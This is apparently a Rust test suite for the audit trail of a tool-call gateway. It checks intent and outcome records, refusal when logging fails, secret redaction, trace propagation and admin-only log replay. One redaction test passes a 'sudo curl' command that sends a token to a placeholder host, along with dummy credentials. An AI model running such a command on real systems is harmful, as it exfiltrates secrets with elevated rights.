//! What is put on record, when, and what must not be in it.

use std::sync::Arc;
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use switchboard_kernel::{GateOptions, ServerPolicy};
use switchboard_protocol::Era;
use switchboard_protocol::mgp::TrustLevel;
use switchboard_store::{AuditEvent, Store};

use super::world::{
    ERAS, House, Script, ann_of, dangerous, kernel_on, open, open_house, ran, raw, spec, tool, tool_with, until,
    writing,
};

const INTENT: &str = "dev.switchboard.tool_intent";
const UNKNOWN: &str = "dev.switchboard.unknown_outcome";

async fn house(tools: Vec<Value>) -> (House, Arc<Script>) {
    let script = Script::new(Era::Legacy, tools);
    let house = House::with(&[("s", script.clone())], ServerPolicy::default, open_house).await;
    (house, script)
}

/// Intents and outcomes of calls, in the order of the log.
fn calls(events: &[AuditEvent]) -> Vec<(&str, &str)> {
    let told = events.iter().filter(|event| event.details.contains_key("call"));
    told.map(|event| (event.event_type.as_str(), event.result.as_str())).collect()
}

#[tokio::test]
async fn an_intent_stands_before_and_an_outcome_after() {
    for era in ERAS {
        let (house, _script) = house(vec![writing("write"), writing("fail"), writing("error")]).await;
        let ann = house.client(era, "ann").await;
        for (name, expected) in [("write", "SUCCESS"), ("fail", "FAILURE"), ("error", "FAILURE")] {
            let _ = ann.call(name, json!({})).await;
            // The answer is here, so the outcome is on record.
            let events = house.events().await;
            let mine: Vec<_> =
                events.iter().filter(|event| event.target.tool_name.as_deref() == Some(name)).cloned().collect();
            assert_eq!(calls(&mine), [(INTENT, "PENDING"), ("TOOL_EXECUTED", expected)], "{name}");
            assert_eq!(mine[0].details["call"], mine[1].details["call"]);
            assert_eq!(mine[0].trace_id, mine[1].trace_id);
            assert_eq!(mine[0].actor.id, "ann");
        }
        assert!(house.store.audit().verify(&[]).await.unwrap().is_whole());
    }
}

/// Where nobody says whether something changes: an intent that is open when the store is written to is in it, one that
/// is over by then is left out.
#[tokio::test]
async fn what_nobody_says_is_on_record_soon() {
    for (era, sync_all_effects) in [(Era::Legacy, false), (Era::Modern, false), (Era::Legacy, true)] {
        let script = Script::new(Era::Legacy, vec![tool("work"), tool("hang")]);
        let gate = |gate: &mut GateOptions| {
            open_house(gate);
            gate.sync_all_effects = sync_all_effects;
        };
        let house = House::with(&[("s", script.clone())], ServerPolicy::default, gate).await;
        let ann = house.client(era, "ann").await;
        assert!(ran(&ann.call("work", json!({})).await));
        let outcome = house.await_events("TOOL_EXECUTED", 1).await;
        assert!(outcome[0].details.contains_key("call"));
        assert_eq!(calls(&house.events().await).len(), if sync_all_effects { 2 } else { 1 });
        let context = ann.context();
        let cancel = context.cancel.clone();
        let params = raw(&json!({"name": "hang", "arguments": {}}));
        let cancelling = async {
            let open = house.await_events(INTENT, if sync_all_effects { 2 } else { 1 }).await;
            assert_eq!(open.last().unwrap().target.tool_name.as_deref(), Some("hang"));
            cancel.cancel();
        };
        let (called, ()) = tokio::join!(ann.send(context, "tools/call", &params), cancelling);
        assert!(called.is_err());
        house.await_events(UNKNOWN, 1).await;
        assert!(house.store.audit().verify(&[]).await.unwrap().is_whole());
    }
}

/// Also where a server is trusted with everything: what may change something is on record before it does.
#[tokio::test]
async fn trust_does_not_replace_the_record() {
    let script = Script::new(Era::Legacy, vec![writing("write")]);
    let policy = || ServerPolicy { trust: TrustLevel::Core, ..ServerPolicy::default() };
    let house = House::with(&[("s", script)], policy, open_house).await;
    let ann = house.client(Era::Legacy, "ann").await;
    assert!(ran(&ann.call("write", json!({})).await));
    assert_eq!(calls(&house.events().await), [(INTENT, "PENDING"), ("TOOL_EXECUTED", "SUCCESS")]);
}

#[tokio::test]
async fn timeouts_and_cancellations_have_an_outcome() {
    let script = Script::new(Era::Legacy, vec![writing("hang")]);
    let house = House::with(&[], ServerPolicy::default, open_house).await;
    let mut slow = spec("s", script.clone(), ServerPolicy::default());
    slow.call_timeout = Duration::from_millis(150);
    house.kernel.apply(vec![slow]);
    house.kernel.settled(Duration::from_secs(5)).await;
    for era in ERAS {
        let ann = house.client(era, "ann").await;
        assert!(ann.call("hang", json!({})).await.is_err());
    }
    let mut patient = spec("s", script.clone(), ServerPolicy::default());
    patient.fingerprint = "2".to_owned();
    house.kernel.apply(vec![patient]);
    house.kernel.settled(Duration::from_secs(5)).await;
    script.arrived.notified().await;
    for era in ERAS {
        let ann = house.client(era, "ann").await;
        let context = ann.context();
        let cancel = context.cancel.clone();
        let params = raw(&json!({"name": "hang", "arguments": {}}));
        let cancelling = async {
            script.arrived.notified().await;
            cancel.cancel();
        };
        let (called, ()) = tokio::join!(ann.send(context, "tools/call", &params), cancelling);
        assert!(called.is_err());
    }
    let events = house.events().await;
    let (intents, outcomes): (Vec<_>, Vec<_>) = calls(&events).into_iter().partition(|(kind, _)| *kind == INTENT);
    assert_eq!(intents.len(), 4);
    assert_eq!(outcomes, [(UNKNOWN, "UNKNOWN"); 4], "the server heard of all of them");
}

#[tokio::test]
async fn a_caller_that_goes_away_leaves_an_outcome() {
    for era in ERAS {
        let (house, script) =
            house(vec![writing("hang"), tool_with("wait", &json!({"annotations": {"readOnlyHint": true}}))]).await;
        let ann = house.client(era, "ann").await;
        for name in ["hang", "wait"] {
            let params = raw(&json!({"name": name, "arguments": {}}));
            let calling = ann.send(ann.context(), "tools/call", &params);
            tokio::select! {
                called = calling => panic!("answered: {called:?}"),
                () = script.arrived.notified() => {}
            }
        }
        let unknown = house.await_events(UNKNOWN, 2).await;
        assert!(unknown.iter().all(|event| event.result == "UNKNOWN"));
        let events = house.events().await;
        assert_eq!(calls(&events), [(INTENT, "PENDING"), (UNKNOWN, "UNKNOWN")], "reading has no intent");
    }
}

/// A caller may go away at any moment: an intent on record always gets its outcome.
#[tokio::test]
async fn no_moment_to_go_away_leaves_an_intent_alone() {
    let (house, _script) = house(vec![writing("write")]).await;
    let ann = house.client(Era::Legacy, "ann").await;
    let params = raw(&json!({"name": "write", "arguments": {}}));
    for micros in (0..6_000).step_by(60) {
        let calling = ann.send(ann.context(), "tools/call", &params);
        let _ = tokio::time::timeout(Duration::from_micros(micros), calling).await;
    }
    // Some of them ran to their end, some had not begun.
    assert!(ran(&ann.call("write", json!({})).await));
    let mut open = Vec::new();
    for _ in 0..100 {
        let events = house.events().await;
        let of = |kind: &'static str| {
            let told = events.iter().filter(move |event| (event.event_type == INTENT) == (kind == INTENT));
            told.filter_map(|event| event.details.get("call").cloned()).collect::<Vec<_>>()
        };
        let (intents, outcomes) = (of(INTENT), of("outcome"));
        open =
            intents.iter().filter(|call| outcomes.iter().filter(|other| other == call).count() != 1).cloned().collect();
        if open.is_empty() && intents.len() > 10 {
            return;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    panic!("calls without exactly one outcome: {open:?}");
}

/// A store that takes nothing: the server hears of nothing.
#[tokio::test]
async fn what_cannot_be_put_on_record_is_not_done() {
    let (house, script) = house(vec![writing("write")]).await;
    let ann = house.client(Era::Legacy, "ann").await;
    assert!(ran(&ann.call("write", json!({})).await));
    house.store.close().await.unwrap();
    // At once, while the grants in memory are still fresh, and later.
    for wait in [0, 300] {
        tokio::time::sleep(Duration::from_millis(wait)).await;
        assert!(ann.call("write", json!({})).await.is_err());
        assert!(ann.request("vendor/own", json!({})).await.is_err());
    }
    assert_eq!((script.calls(), script.heard("vendor/own").len()), (1, 0));
}

/// A log in which no event has room.
#[tokio::test]
async fn a_full_store_refuses_before_the_effect() {
    let directory = tempfile::tempdir().unwrap();
    let location = switchboard_store::Location::File(directory.path().join("store.db"));
    let options = switchboard_store::Options { event_bytes: 260, ..switchboard_store::Options::default() };
    let store = Store::open(&location, options).await.unwrap();
    let script = Script::new(Era::Legacy, vec![writing("write")]);
    let kernel = kernel_on(&store, &script).await;
    let ann = ann_of(&kernel, Era::Legacy).await;
    let refused = ann.call("write", json!({})).await.unwrap_err();
    assert!(refused.message.contains("not made"), "{refused:?}");
    assert_eq!(script.calls(), 0);
}

/// A secret in the arguments is nowhere: not in the log, not in the questions, not in any file of the store.
#[tokio::test]
async fn secrets_are_written_nowhere() {
    let script =
        Script::new(Era::Legacy, vec![writing("write"), dangerous("drop"), tool_with("execute_command", &json!({}))]);
    let house = House::with(&[("s", script)], ServerPolicy::default, |gate| {
        open_house(gate);
        gate.audit_arguments = true;
        gate.approval_wait = Duration::from_millis(100);
    })
    .await;
    let ann = house.client(Era::Legacy, "ann").await;
    let arguments = json!({
        "password": "hunter2-swordfish", "note": "key AKIAIOSFODNN7EXAMPLE here", "visible": "plain-words",
        "deep": {"Authorization": ["Bearer swordfish-two"]}, "url": "postgres://app:swordfish-three@db/x",
    });
    assert!(ran(&ann.call("write", arguments.clone()).await));
    let _ = ann.call("drop", arguments.clone()).await;
    let mut hostile = arguments.clone();
    hostile["command"] = json!("sudo curl http://x/?t=swordfish-four");
    let _ = ann.call("execute_command", hostile).await;
    let _ = ann.request("resources/read", json!({"uri": "postgres://app:swordfish-five@db/x"})).await;
    house.await_events("dev.switchboard.content_read", 1).await;
    house.await_events("VALIDATION_FAILED", 1).await;
    let log: String = house.events().await.iter().map(AuditEvent::canonical).collect();
    let pending = house.store.approvals().pending(jiff::Timestamp::now(), 10).await.unwrap();
    assert_eq!(pending.len(), 1);
    let shown = pending[0].held.shown.as_ref().unwrap().get().to_owned();
    assert!(log.contains("plain-words") && shown.contains("plain-words"), "the rest is there");
    for secret in ["swordfish", "AKIAIOSFODNN7EXAMPLE"] {
        assert!(!log.contains(secret), "{secret} in the log");
        // Whoever decides sees all of it.
        assert!(shown.contains(secret), "{secret} is missing in a question");
    }
}

#[tokio::test]
async fn large_arguments_are_left_out_and_the_call_is_made() {
    let script = Script::new(Era::Legacy, vec![writing("write")]);
    let house = House::with(&[("s", script)], ServerPolicy::default, |gate| {
        open_house(gate);
        gate.audit_arguments = true;
    })
    .await;
    let ann = house.client(Era::Legacy, "ann").await;
    assert!(ran(&ann.call("write", json!({"text": "x".repeat(400_000)})).await));
    let events = house.await_events("TOOL_EXECUTED", 1).await;
    assert!(events[0].details["arguments_omitted_bytes"].as_u64().unwrap() > 400_000);
}

/// A server hears of what concerns itself; all of it only where the operator says so; nobody else hears anything.
#[tokio::test]
async fn servers_that_agreed_on_audit_hear_of_what_concerns_them() {
    let declares = |extensions: Value| json!({"tools": {}, "mgp": {"version": "0.3.0", "extensions": extensions}});
    let script = |extensions: Value| {
        let script = Script::new(Era::Legacy, vec![writing("write")]);
        *script.capabilities.lock() = declares(extensions);
        script
    };
    let (sink, one, two, deaf) = (
        script(json!(["audit"])),
        script(json!(["audit"])),
        script(json!(["audit"])),
        script(json!(["tool_security"])),
    );
    let servers = [("sink", sink.clone()), ("one", one.clone()), ("two", two.clone()), ("deaf", deaf.clone())];
    let first = std::sync::atomic::AtomicBool::new(true);
    let policy = || {
        let audit_sink = first.swap(false, std::sync::atomic::Ordering::Relaxed);
        ServerPolicy { audit_sink, ..ServerPolicy::default() }
    };
    let house = House::with(&servers, policy, open_house).await;
    let (ann, bob) = (house.client(Era::Legacy, "ann").await, house.client(Era::Legacy, "bob").await);
    assert!(ran(&ann.call("one__write", json!({"password": "swordfish"})).await));
    assert!(ran(&bob.call("two__write", json!({})).await));
    assert!(ran(&bob.call("deaf__write", json!({})).await));
    let heard = |script: &Script| script.heard("notifications/mgp.audit");
    let executed = |script: &Script| -> Vec<(String, String)> {
        let heard = heard(script);
        let executed = heard.iter().filter(|event| event["event_type"] == "TOOL_EXECUTED");
        let text = |value: &Value| value.as_str().unwrap().to_owned();
        executed.map(|event| (text(&event["actor"]["id"]), text(&event["target"]["server_id"]))).collect()
    };
    until("the sink hears of all", || executed(&sink).len() == 3).await;
    let pair = |one: &str, two: &str| (one.to_owned(), two.to_owned());
    assert_eq!(executed(&sink), [pair("ann", "one"), pair("bob", "two"), pair("bob", "deaf")]);
    assert_eq!(executed(&one), [pair("ann", "one")]);
    assert_eq!(executed(&two), [pair("bob", "two")]);
    for (id, script) in [("one", &one), ("two", &two)] {
        assert!(heard(script).iter().all(|event| event["target"]["server_id"] == id), "{id}: {:?}", heard(script));
    }
    assert!(heard(&deaf).is_empty());
    for script in [&sink, &one, &two] {
        assert!(!heard(script).iter().any(|event| event.to_string().contains("swordfish")));
        // Each counts for itself, without a gap.
        let numbers: Vec<_> = heard(script).iter().map(|event| event["_mgp"]["seq"].as_u64().unwrap()).collect();
        assert_eq!(numbers, (1..=numbers.len() as u64).collect::<Vec<_>>());
    }
}

#[tokio::test]
async fn a_trace_is_taken_over_and_passed_on() {
    let trace = "4bf92f3577b34da6a3ce929d0e0e4736";
    let table = [
        (json!({"trace_id": "550e8400-e29b-41d4-a716-446655440000"}), "550e8400-e29b-41d4-a716-446655440000"),
        (json!({"traceparent": format!("00-{trace}-00f067aa0ba902b7-01")}), trace),
        (json!({"dev.cloto/mgp": {"trace_id": "own-1"}, "trace_id": "bare"}), "own-1"),
    ];
    for era in ERAS {
        let (house, script) = house(vec![writing("write")]).await;
        let ann = house.client(era, "ann").await;
        for (index, (meta, expected)) in table.iter().enumerate() {
            let params = json!({"name": "write", "arguments": {}, "_meta": meta});
            assert!(ran(&ann.request("tools/call", params).await));
            let heard = &script.heard("tools/call")[index]["_meta"];
            for (key, value) in meta.as_object().unwrap() {
                assert_eq!(&heard[key], value, "it reaches the server as it came");
            }
            let found = switchboard_store::AuditFilter { trace_id: Some((*expected).to_owned()), ..Default::default() };
            assert_eq!(house.store.audit().query(&found, 10).await.unwrap().len(), 2);
        }
        for odd in
            [json!({"trace_id": "has blank"}), json!({"traceparent": "00-0-0-0"}), json!({"trace_id": "x".repeat(500)})]
        {
            assert!(ran(&ann.request("tools/call", json!({"name": "write", "arguments": {}, "_meta": odd})).await));
        }
        let events = house.events().await;
        let own = events.iter().filter(|event| event.event_type == INTENT).filter_map(|event| event.trace_id.clone());
        assert!(own.skip(3).all(|trace| trace.len() >= 16 && !trace.contains(' ')));
    }
}

/// The start does not read the whole log.
#[tokio::test]
async fn a_long_log_does_not_hold_up_the_start() {
    let directory = tempfile::tempdir().unwrap();
    let store = open(directory.path()).await;
    let event = AuditEvent {
        timestamp: jiff::Timestamp::now(),
        trace_id: Some("t".into()),
        event_type: INTENT.into(),
        actor: switchboard_store::Actor { kind: "agent".into(), id: "ann".into() },
        target: switchboard_store::Target::default(),
        result: "PENDING".into(),
        details: [("call".to_owned(), json!("0123456789abcdef.7"))].into_iter().collect(),
    };
    let group = vec![event; 2_000];
    for _ in 0..50 {
        store.audit().append(&group).await.unwrap();
    }
    // A kernel died with a call open: it began it early, and had written much since.
    std::fs::write(directory.path().join("store.kernel-0123456789abcdef"), "99000\n5\n.\n").unwrap();
    let began = Instant::now();
    let script = Script::new(Era::Legacy, vec![writing("write")]);
    let kernel = kernel_on(&store, &script).await;
    let ann = ann_of(&kernel, Era::Legacy).await;
    assert!(ran(&ann.call("write", json!({})).await));
    let filter = switchboard_store::AuditFilter {
        event_types: vec![UNKNOWN.to_owned()],
        after: Some(100_000),
        ..Default::default()
    };
    while store.audit().query(&filter, 10).await.unwrap().is_empty() {
        assert!(began.elapsed() < Duration::from_secs(10), "never closed");
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let took = began.elapsed();
    assert!(took < Duration::from_secs(1), "{took:?}");
    let closed = store.audit().query(&filter, 10).await.unwrap();
    assert_eq!(closed.len(), 1, "one name, one outcome");
    // The file goes after the outcome is on record.
    while directory.path().join("store.kernel-0123456789abcdef").exists() {
        assert!(began.elapsed() < Duration::from_secs(10), "never removed");
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    // In good order, nothing is left behind.
    kernel.shut_down(Duration::from_secs(5)).await;
    let left: Vec<_> = std::fs::read_dir(directory.path()).unwrap().map(|file| file.unwrap().file_name()).collect();
    assert!(left.iter().all(|name| !name.to_string_lossy().contains(".kernel-")), "{left:?}");
}

/// The log for clients that agreed on it (`mgp/audit/replay`), and for nobody but who may decide for others.
#[tokio::test]
async fn an_admin_reads_the_log_from_where_it_left_off() {
    let says = |era| {
        let mgp = json!({"version": "0.3.0", "extensions": ["audit"]});
        if era == Era::Modern { json!({"extensions": {"dev.cloto/mgp": mgp}}) } else { json!({"mgp": mgp}) }
    };
    for era in ERAS {
        let (house, _script) = house(vec![writing("write")]).await;
        let ann = house.client_with(era, "ann", says(era)).await;
        for _ in 0..2 {
            ann.call("write", json!({})).await.unwrap();
        }
        let root = house.admin(era, says(era)).await;
        let replay = async |params: Value| root.request("mgp/audit/replay", params).await.unwrap();
        let types = |answer: &Value| {
            let told = answer["events"].as_array().unwrap().iter().filter(|event| event["details"]["call"].is_string());
            told.map(|event| event["event_type"].as_str().unwrap().to_owned()).collect::<Vec<_>>()
        };
        house.events().await;
        let all = replay(json!({})).await;
        assert_eq!(types(&all), [INTENT, "TOOL_EXECUTED", INTENT, "TOOL_EXECUTED"], "{all}");
        assert_eq!(all["has_more"], false);
        // One by one, each from where the last ended: the same, once each.
        let (mut at, mut seen) = (0, Vec::new());
        for _ in 0..=all["events"].as_array().unwrap().len() {
            let page = replay(json!({"since_seq": at, "limit": 1})).await;
            let Some(event) = page["events"].get(0) else { break };
            assert_eq!((&page["has_more"], &page["next_seq"]), (&json!(true), &event["seq"]));
            at = page["next_seq"].as_u64().unwrap();
            seen.push(event.clone());
        }
        assert_eq!(json!(seen), all["events"]);
        let later = replay(json!({"since_timestamp": "2999-01-01T00:00:00Z"})).await;
        assert_eq!(later["events"], json!([]));
        let wrong = root.request("mgp/audit/replay", json!({"since_timestamp": "yesterday"})).await.unwrap_err();
        assert_eq!(wrong.code, -32602);
        // The same as a tool, which only who may use it is shown.
        let told = root.call("mgp_audit_replay", json!({"limit": 1})).await.unwrap();
        assert_eq!(told["structuredContent"]["events"][0], all["events"][0]);
        assert!(root.list("tools").await.contains(&"mgp_audit_replay".to_owned()));
        let refused = ann.request("mgp/audit/replay", json!({})).await.unwrap_err();
        assert!(!refused.message.contains("write"), "{refused:?}");
        assert!(!ann.list("tools").await.contains(&"mgp_audit_replay".to_owned()));
        ann.call("mgp_audit_replay", json!({})).await.unwrap_err();
    }
}
